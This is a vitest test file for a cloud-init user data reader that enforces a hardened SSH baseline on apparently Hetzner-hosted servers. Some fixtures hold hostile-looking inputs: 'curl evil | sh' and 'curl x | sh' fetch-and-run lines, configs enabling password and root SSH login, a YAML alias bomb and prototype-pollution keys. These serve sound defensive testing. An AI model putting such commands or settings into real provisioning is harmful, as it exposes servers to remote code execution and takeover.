// The user data reader, tested directly: our own user data reads clean, and every shape cloud-init
// accepts (encodings, forms, key spellings) reads as cloud-init would apply it.
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { readUserData } from "../../../policies/lib/cloud-init";
import { renderUserData } from "../../../components/hetzner/user-data";
import { renderSshdFirstBoot } from "../../../components/host/sshd-config";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx4c0bWmWyN1hY3S8i2pXgq3cJ0h9O5cM8Ue2l4N7kQ alice@laptop";
const DEPLOY_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeDeployKeyForTestsOnly000000000000000000 deploy";
const settings = { serverName: "openclaw", adminUser: "ops", adminSshKeys: [KEY], sshPort: 22, gatewayPort: 18789, image: "debian-13" as const };
const DROP_IN = "/etc/ssh/sshd_config.d/00-openclaw-hetzner.conf";
const SECRET = "hunter2-s3cr3t-value";

/** A cloud-config with one write_files entry whose extra lines are given. */
function withFile(...lines: string[]): string {
  return ["#cloud-config", "write_files:", "  - path: /etc/ssh/sshd_config.d/000-x.conf", ...lines.map((l) => `    ${l}`), ""].join("\n");
}

const problemsOf = (userData: string) => readUserData(userData).problems;

describe("our own user data", () => {
  for (const image of ["debian-13", "debian-12", "ubuntu-24.04"] as const) {
    it(`reads clean for ${image}`, () => {
      const s = { ...settings, image };
      const userData = renderUserData(s, DEPLOY_KEY);
      const r = readUserData(userData);
      expect(r.form).toBe("cloud-config");
      expect(r.problems).toEqual([]);
      expect(r.base64).toBe(false);
      expect(r.gzipped).toBe(false);
      expect(r.text).toBe(userData);
      expect(r.sshPwauth).toBe(false);
      expect(r.files).toEqual([{ path: DROP_IN, content: renderSshdFirstBoot(s), permissions: "0600", owner: "root:root", append: false, defer: false }]);
      expect(r.users.map((u) => [u.name, u.hasPassword, u.lockPasswd])).toEqual([
        ["ops", false, true],
        ["openclaw", false, true],
      ]);
      expect(r.users[0].sshAuthorizedKeys).toEqual([KEY, DEPLOY_KEY]);
      expect(r.users[0].sudo).toBe("ALL=(ALL) NOPASSWD:ALL");
      expect(r.users[0].shell).toBe("/bin/bash");
      expect(r.users[1].sshAuthorizedKeys).toEqual([]);
      expect(r.keys).toEqual(["hostname", "locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"]);
      expect(r.commands).toContainEqual({ key: "runcmd", text: "sh -c 'sshd -t && systemctl restart ssh'" });
      expect(r.commands).toContainEqual({ key: "runcmd", text: "sh -c 'install -d -m 700 -o openclaw -g openclaw /var/lib/openclaw'" });
      expect(r.commands.some((c) => c.text.includes("ssh.socket"))).toBe(image === "ubuntu-24.04");
    });
  }
});

describe("forms", () => {
  const cloudConfig = "#cloud-config\nhostname: x\n";
  const cases: [string, string | undefined, string][] = [
    ["undefined", undefined, "empty"],
    ["empty", "", "empty"],
    ["whitespace", " \n\t\r\n", "empty"],
    ["cloud-config", cloudConfig, "cloud-config"],
    ["cloud-config with trailing spaces and CRLF", "#cloud-config  \r\nhostname: x\r\n", "cloud-config"],
    ["cloud-config after blank lines, any case", "\n  #Cloud-Config\nhostname: x\n", "cloud-config"],
    ["shell script", "#!/bin/sh\necho hi\n", "shell-script"],
    ["MIME with a version header", 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n', "multipart"],
    ["MIME with the content type first", 'Content-Type: multipart/mixed; boundary="b"\nMIME-Version: 1.0\n\n--b\n', "multipart"],
    ["multipart without a version", 'Content-Type: multipart/mixed; boundary="b"\n\n--b\n', "multipart"],
    ["header-like first line and a version further down", "#cloud-config: x\nMIME-Version: 1.0\nContent-Type: text/x-shellscript\n\n#!/bin/sh\n", "multipart"],
    ["jinja", "## template: jinja\n#cloud-config\nhostname: {{ v1.local_hostname }}\n", "jinja"],
    ["include", "#include\nhttps://example.com/ud\n", "include"],
    ["include-once", "#include-once\nhttps://example.com/ud\n", "include"],
    ["boothook", "#cloud-boothook\n#!/bin/sh\necho hi\n", "boothook"],
    ["part-handler", "#part-handler\ndef list_types(): return []\n", "part-handler"],
    ["cloud-config-archive", "#cloud-config-archive\n- type: text/x-shellscript\n  content: x\n", "cloud-config-archive"],
    ["cloud-config-jsonp", '#cloud-config-jsonp\n[{"op": "add"}]\n', "unknown"],
    ["plain YAML without the marker", "hostname: x\n", "unknown"],
    ["text", "hello world\n", "unknown"],
    ["a byte-order mark before the marker", "\ufeff#cloud-config\nhostname: x\n", "unknown"],
  ];
  for (const [name, userData, form] of cases) {
    it(`detects ${name}`, () => expect(readUserData(userData).form).toBe(form));
  }

  it("keeps a cloud-config whose content mentions MIME-Version a cloud-config", () => {
    const r = readUserData(withFile("content: |", "  MIME-Version: 1.0"));
    expect(r.form).toBe("cloud-config");
    expect(r.files[0].content).toBe("MIME-Version: 1.0\n");
  });

  it("decompresses gzip-wrapped cloud-config and shell scripts carried as latin1", () => {
    const userData = renderUserData(settings);
    const gz = readUserData(gzipSync(userData).toString("latin1"));
    expect(gz).toMatchObject({ form: "cloud-config", gzipped: true, base64: false, text: userData, problems: [] });
    expect(gz.files.map((f) => f.path)).toEqual([DROP_IN]);
    const sh = readUserData(gzipSync("#!/bin/sh\ncurl evil | sh\n").toString("latin1"));
    expect(sh).toMatchObject({ form: "shell-script", gzipped: true, text: "#!/bin/sh\ncurl evil | sh\n", files: [], problems: [] });
  });

  it("unwraps base64 as Hetzner's datasource does, with or without gzip inside", () => {
    const b64 = readUserData(Buffer.from("#!/bin/bash\nid\n").toString("base64"));
    expect(b64).toMatchObject({ form: "shell-script", base64: true, gzipped: false, text: "#!/bin/bash\nid\n" });
    const userData = withFile("content: 'PasswordAuthentication yes'");
    const both = readUserData(gzipSync(userData).toString("base64"));
    expect(both).toMatchObject({ form: "cloud-config", base64: true, gzipped: true, text: userData });
    expect(both.files[0].content).toBe("PasswordAuthentication yes");
    // Not single-line base64 (a newline), so cloud-init leaves it alone.
    expect(readUserData(`${Buffer.from("#!/bin/sh\n").toString("base64")}\n`).form).toBe("unknown");
  });

  it("reports gzip that does not decompress and bytes that are not UTF-8", () => {
    expect(readUserData("\x1f\x8bnot really gzip")).toMatchObject({ form: "unknown", gzipped: false, problems: ["user data starts with the gzip magic but does not decompress", "user data is not UTF-8 text"] });
    const latin = readUserData(gzipSync(Buffer.from([0x23, 0x21, 0x2f, 0x62, 0xff, 0x0a])).toString("latin1"));
    expect(latin.problems).toEqual(["user data is not UTF-8 text"]);
    expect(latin.form).toBe("shell-script");
  });

  it("parses only cloud-config: other forms carry no files, users or commands", () => {
    const script = "#!/bin/sh\n#cloud-config\nwrite_files:\n  - path: /etc/x\nssh_pwauth: true\n";
    expect(readUserData(script)).toMatchObject({ form: "shell-script", problems: [], files: [], users: [], commands: [], keys: [] });
    expect(readUserData("#cloud-config-archive\n- ssh_pwauth: true\n").problems).toEqual([]);
  });
});

describe("write_files encodings", () => {
  const text = "PasswordAuthentication yes\nPermitRootLogin yes\n";
  const b64 = Buffer.from(text).toString("base64");
  const gzB64 = gzipSync(text).toString("base64");
  const cases: [string, string[]][] = [
    ["absent (plain)", [`content: ${JSON.stringify(text)}`]],
    ["text/plain", ["encoding: text/plain", `content: ${JSON.stringify(text)}`]],
    ["b64", ["encoding: b64", `content: ${b64}`]],
    ["base64", ["encoding: base64", `content: ${b64}`]],
    ["Base64 with line breaks", ["encoding: ' Base64 '", "content: |", ...b64.match(/.{1,8}/g)!.map((l) => `  ${l}`)]],
    ["gzip (YAML binary)", ["encoding: gzip", `content: !!binary ${gzB64}`]],
    ["gz (YAML binary)", ["encoding: gz", `content: !!binary ${gzB64}`]],
    ["gz+base64", ["encoding: gz+base64", `content: ${gzB64}`]],
    ["gzip+base64", ["encoding: gzip+base64", `content: ${gzB64}`]],
    ["gz+b64", ["encoding: gz+b64", `content: ${gzB64}`]],
    ["gzip+b64", ["encoding: GZIP+B64", `content: ${gzB64}`]],
    ["plain YAML binary", [`content: !!binary ${b64}`]],
  ];
  for (const [name, lines] of cases) {
    it(`decodes ${name}`, () => {
      const r = readUserData(withFile(...lines));
      expect(r.problems).toEqual([]);
      expect(r.files).toEqual([{ path: "/etc/ssh/sshd_config.d/000-x.conf", content: text, append: false, defer: false }]);
    });
  }

  it("writes an empty file for an entry without content", () => {
    expect(readUserData(withFile("owner: root:root")).files[0].content).toBe("");
  });

  const unreadable: [string, string[], string][] = [
    ["a source URL", ["source:", "  uri: https://example.com/x"], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): uses 'source' (fetched at boot)"],
    ["an unknown encoding", ["encoding: x", "content: abc"], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): encoding 'x' unknown"],
    ["an encoding that is not text", ["encoding: 5", "content: abc"], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): encoding is not a string"],
    ["base64 with a short last group", ["encoding: b64", "content: YWJjZA"], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): not valid base64"],
    ["base64 that is not ASCII", ["encoding: b64", "content: YWJj€ZA=="], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): not valid base64"],
    ["gzip+base64 that is not gzip", ["encoding: gzip+base64", `content: ${Buffer.from(SECRET).toString("base64")}`], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): not valid gzip"],
    ["gzip text that is not gzip", ["encoding: gzip", `content: ${SECRET}`], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): not valid gzip"],
    ["binary content", ["encoding: b64", `content: ${Buffer.from([0xff, 0xfe, 0x00]).toString("base64")}`], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): binary content"],
    ["a number as content", ["content: 42"], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): content is not text"],
    ["a mapping as content", ["content:", `  PasswordAuthentication: ${SECRET}`], "write_files[0] (/etc/ssh/sshd_config.d/000-x.conf): content is not text"],
  ];
  for (const [name, lines, message] of unreadable) {
    it(`keeps ${name} unreadable`, () => {
      const r = readUserData(withFile(...lines));
      expect(r.problems).toEqual([message]);
      expect(r.files).toHaveLength(1);
      expect(r.files[0].content).toBeUndefined();
      expect(r.files[0].unreadable).toBe(message);
      expect(r.problems.join("\n")).not.toContain(SECRET);
    });
  }

  it("decodes base64 the way Python does: padding ends it, stray characters are skipped", () => {
    expect(readUserData(withFile("encoding: b64", 'content: "YW Jj\\nZA==ignored"')).files[0].content).toBe("abcd");
  });

  it("reports entries cloud-init skips or fails on", () => {
    const r = readUserData("#cloud-config\nwrite_files:\n  - content: x\n  - path: ''\n  - path: 5\n  - just text\n  - path: /etc/ok\n    content: fine\n");
    expect(r.problems).toEqual(["write_files[0] has no path", "write_files[1] has no path", "write_files[2]: path is not a string", "write_files[3] is not a mapping"]);
    expect(r.files.map((f) => f.path)).toEqual(["/etc/ok"]);
    expect(problemsOf("#cloud-config\nwrite_files:\n  path: /etc/x\n")).toEqual(["write_files is not a list"]);
  });

  it("normalises paths as os.path.abspath does", () => {
    const r = readUserData("#cloud-config\nwrite_files:\n  - path: //etc/ssh/./sshd_config.d/../sshd_config.d/000-x.conf\n  - path: etc/motd\n");
    expect(r.files.map((f) => f.path)).toEqual(["/etc/ssh/sshd_config.d/000-x.conf", "/etc/motd"]);
  });

  it("reads permissions, owner, append and defer as cloud-init applies them", () => {
    const r = readUserData(
      [
        "#cloud-config",
        "write_files:",
        "  - {path: /a, permissions: 0600, append: yes, defer: 'true'}",
        "  - {path: /b, permissions: '0640', append: 'on', defer: 1}",
        "  - {path: /c, permissions: 600, append: 'no', defer: false}",
        "  - {path: /d, permissions: rw, owner: 'ops:ops', append: y}",
        "  - {path: /e, permissions: '0o4755'}",
      ].join("\n"),
    );
    expect(r.files.map((f) => [f.path, f.permissions, f.append, f.defer])).toEqual([
      ["/a", "0600", true, true],
      ["/b", "0640", true, true],
      ["/c", "01130", false, false],
      ["/d", "0644", false, false],
      ["/e", "04755", false, false],
    ]);
    expect(r.files[3].owner).toBe("ops:ops");
    expect(r.files[0].owner).toBeUndefined();
  });
});

describe("the hardened baseline", () => {
  const refused: [string, string, string | string[]][] = [
    ["ssh_pwauth: true", "ssh_pwauth: true", "ssh_pwauth enables password logins"],
    ["ssh_pwauth: yes (YAML 1.1)", "ssh_pwauth: yes", "ssh_pwauth enables password logins"],
    ["ssh_pwauth: 'true'", "ssh_pwauth: 'true'", "ssh_pwauth enables password logins"],
    ["ssh_pwauth: 'YES'", "ssh_pwauth: 'YES'", "ssh_pwauth enables password logins"],
    ["ssh_pwauth: 1", "ssh_pwauth: 1", "ssh_pwauth enables password logins"],
    ["ssh_pwauth: 'on '", "ssh_pwauth: 'on '", "ssh_pwauth enables password logins"],
    ["chpasswd", `chpasswd:\n  users:\n    - {name: ops, password: ${SECRET}}`, "chpasswd is set (sets or expires passwords)"],
    ["chpasswd: {expire: false}", "chpasswd: {expire: false}", "chpasswd is set (sets or expires passwords)"],
    ["disable_root: false", "disable_root: false", "disable_root is not true (root keeps usable ssh keys)"],
    ["disable_root: 'no'", "disable_root: 'no'", "disable_root is not true (root keeps usable ssh keys)"],
    ["disable_root: 'false'", "disable_root: 'false'", "disable_root is not true (root keeps usable ssh keys)"],
    ["disable_root: null", "disable_root:", "disable_root is not true (root keeps usable ssh keys)"],
    ["disable_root: y (a string to PyYAML)", "disable_root: y", "disable_root is not true (root keeps usable ssh keys)"],
    ["disable_root_opts", "disable_root_opts: ''", "disable_root_opts is set (changes what root's keys may do)"],
    ["password", `password: ${SECRET}`, "password is set (a password for the default user)"],
    ["users with passwd", `users:\n  - name: ops\n    passwd: ${SECRET}`, "users[0] (ops) sets a password"],
    ["users with hashed_passwd", `users:\n  - name: ops\n    hashed_passwd: $6$${SECRET}`, "users[0] (ops) sets a password"],
    ["users with plain_text_passwd", `users:\n  - backup\n  - name: ops\n    plain_text_passwd: ${SECRET}`, "users[1] (ops) sets a password"],
    ["users with lock_passwd: false", "users:\n  - name: ops\n    lock_passwd: false", "users[0] (ops): lock_passwd is not true (password login stays open)"],
    ["users with lock-passwd: no", "users:\n  - name: ops\n    lock-passwd: no", "users[0] (ops): lock_passwd is not true (password login stays open)"],
    ["users with lock_passwd: null", "users:\n  - name: ops\n    lock_passwd:", "users[0] (ops): lock_passwd is not true (password login stays open)"],
    ["root with keys", `users:\n  - name: root\n    ssh_authorized_keys: [${JSON.stringify(KEY)}]`, "users[0] (root) gives root ssh_authorized_keys"],
    ["root with a single key string", `users:\n  - name: root\n    ssh-authorized-keys: ${JSON.stringify(KEY)}`, "users[0] (root) gives root ssh_authorized_keys"],
    ["users as a mapping", `users:\n  ops:\n    passwd: ${SECRET}`, "users.ops (ops) sets a password"],
    [
      "the legacy user key",
      `user:\n  name: ops\n  passwd: ${SECRET}`,
      ["cloud-config key 'user' is refused: configures the image's default user (with the distro's sudo rule)", "user (ops) sets a password"],
    ],
    [
      "a user without a name (the default user)",
      "users:\n  - lock_passwd: false",
      [
        "users[0] (default): lock_passwd is not true (password login stays open)",
        "users[0] (default): the image's default user (the distro's sudo rule, the provider's keys); name the admin user instead",
      ],
    ],
  ];
  for (const [name, yaml, message] of refused) {
    it(`refuses ${name}`, () => {
      const problems = problemsOf(`#cloud-config\n${yaml}\n`);
      expect(problems).toEqual(Array.isArray(message) ? message : [message]);
      expect(problems.join("\n")).not.toContain(SECRET);
    });
  }

  const allowed: [string, string, boolean | undefined][] = [
    ["ssh_pwauth: false", "ssh_pwauth: false", false],
    ["ssh_pwauth: 'no'", "ssh_pwauth: 'no'", false],
    ["ssh_pwauth: 0", "ssh_pwauth: 0", false],
    ["ssh_pwauth: unchanged", "ssh_pwauth: unchanged", undefined],
    ["ssh_pwauth: y (unrecognised: left unchanged)", "ssh_pwauth: y", undefined],
    ["no ssh_pwauth", "hostname: x", undefined],
  ];
  for (const [name, yaml, sshPwauth] of allowed) {
    it(`reads ${name} without a problem`, () => {
      const r = readUserData(`#cloud-config\n${yaml}\n`);
      expect(r.problems).toEqual([]);
      expect(r.sshPwauth).toBe(sshPwauth);
    });
  }

  it("accepts disable_root: true in any boolean spelling and root without keys", () => {
    for (const v of ["true", "yes", "'on'", "'True'", "1"]) expect(problemsOf(`#cloud-config\ndisable_root: ${v}\n`)).toEqual([]);
    expect(problemsOf("#cloud-config\nusers: [root]\n")).toEqual([]);
  });

  it("reads the user list shapes cloud-init accepts", () => {
    const r = readUserData(`#cloud-config\nusers: "default, ops"\n`);
    expect(r.users.map((u) => u.name)).toEqual(["default", "ops"]);
    const mixed = readUserData(`#cloud-config\nusers:\n  - default\n  - [a, "b, c"]\n  - name: d\n    ssh_authorized_keys: {k: ${JSON.stringify(KEY)}}\n  - 5\n`);
    expect(mixed.users.map((u) => u.name)).toEqual(["default", "a", "b", "c", "d"]);
    expect(mixed.users[4].sshAuthorizedKeys).toEqual([KEY]);
    expect(mixed.problems).toEqual([
      "users[3] is not a user entry",
      "users[0] (default): the image's default user (the distro's sudo rule, the provider's keys); name the admin user instead",
    ]);
    expect(problemsOf("#cloud-config\nusers: 5\n")).toEqual(["users is not a user entry"]);
  });

  it("follows YAML merge keys", () => {
    const r = readUserData(`#cloud-config\nbase: &base\n  lock_passwd: false\nusers:\n  - <<: *base\n    name: ops\n`);
    expect(r.users[0].lockPasswd).toBe(false);
    expect(r.problems).toEqual([
      "cloud-config key 'base' is not one the pack knows to be harmless (top-level keys are allowed by name)",
      "users[0] (ops): lock_passwd is not true (password login stays open)",
    ]);
  });
});

describe("YAML problems", () => {
  const broken: [string, string, RegExp][] = [
    ["a syntax error", `#cloud-config\npassword: [${SECRET}\n`, /^cloud-config: YAML does not parse \([A-Z_]+ at line \d+\)$/],
    ["several documents", "#cloud-config\nhostname: a\n---\nssh_pwauth: true\n", /^cloud-config: YAML does not parse \(MULTIPLE_DOCS at line 3\)$/],
    ["a duplicate key", "#cloud-config\nssh_pwauth: false\nssh_pwauth: true\n", /^cloud-config: YAML does not parse \(DUPLICATE_KEY at line 3\)$/],
    ["an unknown tag", `#cloud-config\npassword: !secret ${SECRET}\n`, /^cloud-config: YAML does not parse \(TAG_RESOLVE_FAILED at line 2\)$/],
    ["a list at the top", "#cloud-config\n- ssh_pwauth: true\n", /^cloud-config: top level is not a mapping$/],
    ["a scalar at the top", "#cloud-config\njust text\n", /^cloud-config: top level is not a mapping$/],
  ];
  for (const [name, userData, message] of broken) {
    it(`reports ${name} without quoting the text`, () => {
      const r = readUserData(userData);
      expect(r.form).toBe("cloud-config");
      expect(r.problems.length).toBeGreaterThan(0);
      for (const p of r.problems) expect(p).toMatch(message);
      expect(r.problems.join("\n")).not.toContain(SECRET);
      expect(r.files).toEqual([]);
    });
  }

  it("treats an empty cloud-config as empty", () => {
    expect(readUserData("#cloud-config\n")).toMatchObject({ form: "cloud-config", problems: [], keys: [] });
  });

  it("reads y and n as text, as PyYAML does", () => {
    expect(readUserData("#cloud-config\ny: 1\nn: 2\n").keys).toEqual(["y", "n"]);
  });

  it("survives alias bombs", () => {
    const bomb = ["#cloud-config", "a: &a [x, x, x, x, x, x, x, x, x]", ...Array.from({ length: 8 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(", ")}]`)].join("\n");
    const r = readUserData(bomb);
    expect(r.problems).toEqual(["cloud-config: YAML does not parse (too many aliases)"]);
  });
});

describe("commands", () => {
  it("turns runcmd and bootcmd into shell text as shellify does", () => {
    const r = readUserData(
      [
        "#cloud-config",
        "bootcmd:",
        "  - echo boot",
        "runcmd:",
        "  - [sh, -c, \"echo 'hi' && touch /tmp/x\"]",
        "  - ls -la",
        "  -",
        "  - [echo, '', 1, true, null, a=b, $HOME]",
      ].join("\n"),
    );
    expect(r.problems).toEqual([]);
    expect(r.commands).toEqual([
      { key: "bootcmd", text: "echo boot" },
      { key: "runcmd", text: `sh -c 'echo '\\''hi'\\'' && touch /tmp/x'` },
      { key: "runcmd", text: "ls -la" },
      { key: "runcmd", text: "echo '' 1 True None a=b '$HOME'" },
    ]);
  });

  it("reports what shellify refuses", () => {
    expect(problemsOf("#cloud-config\nruncmd: echo hi\n")).toEqual(["runcmd is not a list"]);
    expect(problemsOf("#cloud-config\nbootcmd:\n")).toEqual(["bootcmd is not a list"]);
    expect(problemsOf("#cloud-config\nruncmd:\n  - {a: 1}\n  - 5\n")).toEqual(["runcmd[0] is neither a command line nor an argv list", "runcmd[1] is neither a command line nor an argv list"]);
  });
});

describe("garbage", () => {
  it("never throws", () => {
    let seed = 42;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    const inputs = [
      "\x1f\x8b",
      "\x1f\x8b\u20ac",
      "#cloud-config\n__proto__: {ssh_pwauth: true}\nconstructor: 1\n",
      "#cloud-config\nwrite_files:\n  - {path: /x, encoding: constructor, content: a}\n",
      "#cloud-config\n" + "[".repeat(5000),
      "#cloud-config\n" + "- ".repeat(2000) + "x",
      "#cloud-config\nusers: [{name: {a: 1}, ssh_authorized_keys: [{x: 1}]}]\n",
      "#cloud-config\nwrite_files: [{path: /x, permissions: {a: 1}, owner: [1], append: [], defer: {}}]\n",
      "====",
      "AAAA",
    ];
    for (let n = 0; n < 300; n++) {
      const length = next() % 200;
      let s = n % 2 ? "#cloud-config\n" : "";
      for (let i = 0; i < length; i++) s += String.fromCharCode(next() % (n % 3 ? 128 : 0x3000));
      inputs.push(s);
    }
    for (const input of inputs) {
      const r = readUserData(input);
      expect(typeof r.form).toBe("string");
      expect(Array.isArray(r.problems)).toBe(true);
    }
  });

  it("does not resolve keys from the object prototype", () => {
    const r = readUserData("#cloud-config\nwrite_files:\n  - {path: /x, encoding: constructor, content: a}\n");
    expect(r.problems).toEqual(["write_files[0] (/x): encoding 'constructor' unknown"]);
  });
});

describe("top-level keys: an allowlist", () => {
  it("allows our own keys and the harmless ones, checking their values", () => {
    const yaml = [
      "#cloud-config",
      "hostname: gw-1",
      "locale: C.UTF-8",
      "timezone: Europe/Berlin",
      "preserve_hostname: false",
      "manage_etc_hosts: true",
      "package_update: true",
      "package_upgrade: true",
      "package_reboot_if_required: true",
      "final_message: done",
      "ssh_deletekeys: true",
      "bootcmd: [echo boot]",
      "",
    ].join("\n");
    expect(problemsOf(yaml)).toEqual([]);
  });

  const refused: [string, string, string][] = [
    ["apt (conf, sources, keys)", "apt:\n  conf: |\n    APT::Periodic::Unattended-Upgrade \"0\";", "cloud-config key 'apt' is refused: apt sources, signing keys"],
    ["an apt_ shortcut", "apt_proxy: http://proxy.example:3128", "cloud-config key 'apt_proxy' is refused: apt settings"],
    ["ansible", "ansible:\n  pull: {url: 'https://example.org/x.git', playbook_name: site.yml}", "cloud-config key 'ansible' is refused: installs Ansible and runs a playbook"],
    ["chef", "chef: {server_url: 'https://chef.example'}", "cloud-config key 'chef' is refused"],
    ["puppet", "puppet: {install: true}", "cloud-config key 'puppet' is refused"],
    ["salt", "salt_minion: {conf: {master: salt.example}}", "cloud-config key 'salt_minion' is refused"],
    ["snap", "snap:\n  commands: ['snap install x']", "cloud-config key 'snap' is refused"],
    ["an extra CA", "ca_certs:\n  trusted: [x]", "cloud-config key 'ca_certs' is refused: adds trusted certificate authorities"],
    ["host keys in user data", "ssh_keys: {ed25519_private: x}", "cloud-config key 'ssh_keys' is refused: host private keys"],
    ["keys for the default user", `ssh_authorized_keys: [${JSON.stringify(KEY)}]`, "cloud-config key 'ssh_authorized_keys' is refused: keys for the image's default user"],
    ["groups with members", "groups:\n  - sudo: [openclaw]", "cloud-config key 'groups' is refused: creates groups with members"],
    ["a command on power state", "power_state: {mode: reboot, condition: 'curl x | sh'}", "cloud-config key 'power_state' is refused: its condition runs a command"],
    ["output through a command", "output: {all: '| tee -a /tmp/x'}", "cloud-config key 'output' is refused"],
    ["a key the pack does not know", "wireguard: {interfaces: []}", "cloud-config key 'wireguard' is not one the pack knows to be harmless"],
    ["a key that is no cloud-init name", "'hunter2 secret': 1", "cloud-config key (a key that is no cloud-init name) is not one the pack knows"],
    ["a dotted hostname", "hostname: deb.debian.org", "cloud-config key 'hostname': must be a single DNS label"],
    ["an fqdn", "fqdn: nodejs.org", "cloud-config key 'fqdn' is refused"],
    ["the image's host keys kept", "ssh_deletekeys: false", "cloud-config key 'ssh_deletekeys': must stay true"],
    ["packages", "packages: [dropbear]", "cloud-config key 'packages' is refused: installs packages as root before any step"],
  ];
  it.each(refused)("refuses %s", (_what, yaml, text) => {
    const problems = problemsOf(`#cloud-config\n${yaml}\n`);
    expect(problems.join("\n")).toContain(text);
    expect(problems.join("\n")).not.toContain("hunter2");
  });

  it("reports chpasswd and password once, with their own message", () => {
    expect(problemsOf("#cloud-config\nchpasswd: {expire: false}\n")).toEqual(["chpasswd is set (sets or expires passwords)"]);
  });
});

describe("users: an allowlist of fields, privileges for the admin only", () => {
  const ours = renderUserData(settings, DEPLOY_KEY);
  const withOpenclaw = (...lines: string[]) => problemsOf(ours.replace("  - name: openclaw\n", `  - name: openclaw\n${lines.map((l) => `    ${l}\n`).join("")}`));
  const withAdmin = (...lines: string[]) => problemsOf(ours.replace("  - name: ops\n", `  - name: ops\n${lines.map((l) => `    ${l}\n`).join("")}`));

  it("refuses sudo, groups and keys for the service user", () => {
    expect(withOpenclaw("sudo: 'ALL=(ALL) NOPASSWD:ALL'")).toEqual(["users[1].sudo (openclaw): sudo rights only for the admin user, ops: the first with ssh_authorized_keys, a regular user"]);
    expect(withOpenclaw("sudo: ['ALL=(ALL) ALL']")).toHaveLength(1);
    expect(withOpenclaw("groups: [docker]")).toEqual(["users[1].groups (openclaw): supplementary groups ('docker') only for the admin user, ops: the first with ssh_authorized_keys, a regular user"]);
    expect(withOpenclaw("groups: 'adm, openclaw'")).toEqual(["users[1].groups (openclaw): supplementary groups ('adm') only for the admin user, ops: the first with ssh_authorized_keys, a regular user"]);
    // A gid is a group too (27 is sudo on Debian).
    expect(withOpenclaw("groups: [27]")).toHaveLength(1);
    expect(withOpenclaw(`ssh_authorized_keys: [${JSON.stringify(KEY)}]`)).toEqual([
      "users[1].ssh_authorized_keys (openclaw): keys only for the admin user, ops: the first with ssh_authorized_keys (only the admin logs in)",
    ]);
  });

  it("accepts sudo: false and the user's own group", () => {
    expect(withOpenclaw("sudo: false", "groups: [openclaw]")).toEqual([]);
    expect(withOpenclaw("sudo:")).toEqual([]);
  });

  it("refuses sudo for a second user, even one without keys, and for a system or service admin", () => {
    const second = ours.replace("write_files:\n", "  - name: helper\n    sudo: 'ALL=(ALL) NOPASSWD:ALL'\nwrite_files:\n");
    expect(problemsOf(second)).toEqual(["users[2].sudo (helper): sudo rights only for the admin user, ops: the first with ssh_authorized_keys, a regular user"]);
    // The same admin named twice: the second entry's sudo is the admin's.
    expect(problemsOf(ours.replace("write_files:\n", "  - name: ops\n    groups: [adm]\nwrite_files:\n"))).toEqual([]);
    const systemAdmin = ours.replace("    groups: [sudo]\n", "    groups: [sudo]\n    system: true\n");
    expect(problemsOf(systemAdmin)).toEqual([
      "users[0].sudo (ops): sudo rights only for the admin user, ops: the first with ssh_authorized_keys, a regular user",
      "users[0].groups (ops): supplementary groups ('sudo') only for the admin user, ops: the first with ssh_authorized_keys, a regular user",
      "users[0].ssh_authorized_keys (ops): the admin user must be a regular user, not a system user",
      "users[0].shell (ops): must be one of /usr/sbin/nologin, /sbin/nologin, /bin/false, /usr/bin/false",
    ]);
    expect(problemsOf("#cloud-config\nusers:\n  - name: ops\n    sudo: ALL=(ALL) ALL\n")).toEqual([
      "users[0].sudo (ops): sudo rights only for the admin user: the one with ssh_authorized_keys, and there is none, a regular user",
    ]);
  });

  it("refuses fields it does not know, naming them", () => {
    expect(withOpenclaw("uid: 0")).toEqual(["users[1].uid (openclaw): not a user field the pack knows to be harmless (user fields are allowed by name)"]);
    expect(withAdmin("ssh_import_id: [gh:someone]")).toEqual(["users[0].ssh_import_id (ops): not a user field the pack knows to be harmless (user fields are allowed by name)"]);
    expect(withOpenclaw("doas: ['permit nopass openclaw']")).toEqual(["users[1].doas (openclaw): not a user field the pack knows to be harmless (user fields are allowed by name)"]);
  });

  it("checks shells, homes and primary groups", () => {
    expect(problemsOf(ours.replace("    shell: /usr/sbin/nologin\n", "    shell: /bin/bash\n"))).toEqual(["users[1].shell (openclaw): must be one of /usr/sbin/nologin, /sbin/nologin, /bin/false, /usr/bin/false"]);
    expect(problemsOf(ours.replace("    shell: /usr/sbin/nologin\n", ""))).toEqual([
      "users[1].shell (openclaw): a system user needs a shell that refuses logins (/usr/sbin/nologin); useradd's default is /bin/sh",
    ]);
    expect(problemsOf(ours.replace("    shell: /bin/bash\n", "    shell: /tmp/sh\n"))).toEqual([
      "users[0].shell (ops): must be one of /bin/bash, /usr/bin/bash, /bin/sh, /usr/bin/sh, /bin/dash, /usr/bin/dash, /usr/sbin/nologin, /sbin/nologin, /bin/false, /usr/bin/false",
    ]);
    expect(withAdmin("homedir: /root")).toEqual(["users[0].homedir (ops): only /home/ops"]);
    expect(withAdmin("homedir: /home/ops")).toEqual([]);
    expect(problemsOf(ours.replace("    homedir: /var/lib/openclaw\n", "    homedir: /etc/ssh\n"))).toEqual(["users[1].homedir (openclaw): a system user's home is /var/lib/<dir>, /opt/<dir> or /nonexistent"]);
    expect(withOpenclaw("primary_group: sudo")).toEqual(["users[1].primary_group (openclaw): only the user's own group"]);
  });

  it("refuses the image's default user", () => {
    expect(problemsOf(ours.replace("users:\n", "users:\n  - default\n"))).toEqual([
      "users[0] (default): the image's default user (the distro's sudo rule, the provider's keys); name the admin user instead",
    ]);
  });
});
